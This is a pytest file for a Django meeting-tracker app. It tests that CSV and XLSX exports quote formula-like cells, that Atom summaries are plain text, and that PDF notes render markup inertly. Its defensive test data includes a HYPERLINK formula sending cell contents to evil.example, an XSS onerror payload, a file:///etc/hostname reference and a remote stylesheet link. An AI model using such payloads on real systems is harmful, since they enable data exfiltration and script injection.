"""Safe outputs (issue 13, findings 8 and 9): Atom summaries are plain text, and no
spreadsheet cell written by any CSV or XLSX writer is a live formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from typer.testing import CliRunner

from tests.tracker.test_publication import build_meeting
from watching_brief.cli import app
from watching_brief.tracker.actions.models import Action, ActionUpdate
from watching_brief.tracker.exports import write_bundle
from watching_brief.tracker.exports.cells import safe_cell, safe_row
from watching_brief.tracker.meetings.models import Meeting

pytestmark = pytest.mark.django_db
ATOM = "{http://www.w3.org/2005/Atom}"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
FORMULAS = (HYPERLINK, "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1")
MARKUP = '<img src=x onerror="alert(1)"><b>bold</b>'


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_would_run_gets_a_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


def test_other_cells_are_left_alone() -> None:
    assert safe_row(["Report waiting times", "", None, 3, -2, 1.5, dt.date(2026, 1, 2)]) == [
        "Report waiting times", "", "", 3, -2, 1.5, dt.date(2026, 1, 2),
    ]  # fmt: skip
    assert safe_cell("a = b") == "a = b" and safe_cell("'=1") == "'=1"


@pytest.fixture
def formulas(db: None) -> list[Action]:
    """A published meeting whose public actions' texts are formulas."""
    built = build_meeting(status=Meeting.Status.PUBLISHED)
    actions = []
    for position, text in enumerate(FORMULAS, start=10):
        actions.append(
            Action.objects.create(
                reference=f"F-{position}", meeting=built.meeting, item=built.public_item,
                position=position, text=text, owner_post=built.dcc,
            )
        )  # fmt: skip
    return actions


def assert_no_formula_cells(rows: list[list[Any]]) -> None:
    """No text cell starts like a formula, and each formula text is there, quoted."""
    texts = [cell for row in rows for cell in row if isinstance(cell, str)]
    assert not [cell for cell in texts if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for text in FORMULAS:
        assert "'" + text in texts, text


def workbook_rows(data: bytes | Path) -> tuple[list[list[Any]], list[str]]:
    """Every sheet's cell values, and the data types of the cells (``f`` is a formula)."""
    book = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    rows, types = [], []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            rows.append([cell.value for cell in row])
            types += [cell.data_type for cell in row]
    return rows, types


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_action_log_export_has_no_live_formula(
    client: Client, formulas: list[Action], fmt: str
) -> None:
    response = client.get(reverse("web:action_export"), {"format": fmt})
    assert response.status_code == 200
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    else:
        rows, types = workbook_rows(response.content)
        assert "f" not in types
    assert_no_formula_cells(rows)


def test_the_bulk_csv_and_xlsx_have_no_live_formula(formulas: list[Action], tmp_path: Path) -> None:
    write_bundle(tmp_path)
    with (tmp_path / "actions.csv").open(encoding="utf-8-sig", newline="") as handle:
        assert_no_formula_cells(list(csv.reader(handle)))
    rows, types = workbook_rows(tmp_path / "watching-brief.xlsx")
    assert "f" not in types
    assert_no_formula_cells(rows)


def test_brief_actions_csv_has_no_live_formula(formulas: list[Action]) -> None:
    result = CliRunner().invoke(app, ["actions", "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert_no_formula_cells(list(csv.reader(io.StringIO(result.stdout))))


def atom_summaries(client: Client, url: str) -> list[ET.Element]:
    response = client.get(url)
    assert response.status_code == 200
    root = ET.fromstring(response.content)  # noqa: S314 - our own feed, in a test
    return [entry.find(f"{ATOM}summary") for entry in root.findall(f"{ATOM}entry")]  # type: ignore[misc]


def test_atom_summaries_are_text_not_html(client: Client, db: None) -> None:
    built = build_meeting(status=Meeting.Status.PUBLISHED)
    built.meeting.venue = MARKUP
    built.meeting.save()
    ActionUpdate.objects.create(
        action=built.public_action, date=dt.date(2026, 3, 20), text=MARKUP, status="in_progress"
    )
    for url in ("/feeds/meetings.atom", "/feeds/actions.atom"):
        summaries = atom_summaries(client, url)
        assert summaries and all(s is not None for s in summaries)
        assert {summary.get("type") for summary in summaries} == {"text"}, url
        assert any(MARKUP in (summary.text or "") for summary in summaries), url


def test_notes_pdf_prints_markup_as_text_and_fetches_nothing(client: Client, db: None) -> None:
    """Typed text reaches the PDF as text: markup is not rendered and nothing it names
    (a local file, an address) is loaded."""
    from tests.golden.test_round_trip import tracker_meeting
    from tests.tracker.readable import readable

    meeting = tracker_meeting()
    meeting.status = Meeting.Status.PUBLISHED
    meeting.save()
    item = meeting.items.get(number="2")
    item.text = f'{MARKUP} <img src="file:///etc/hostname"> <link rel=stylesheet href="http://evil.example/x.css">'
    item.save()
    data = client.get(reverse("web:meeting_notes_file", args=[meeting.pk, "pdf"])).content
    text = readable(data).decode()
    assert '<img src=x onerror="alert(1)"><b>bold</b>' in " ".join(text.split())
    assert 'href="http://evil.example/x.css"' in text
    with pikepdf.open(io.BytesIO(data)) as pdf:
        assert not [image for page in pdf.pages for image in page.images]
        assert [font for page in pdf.pages for font in page.Resources.Font.values()]
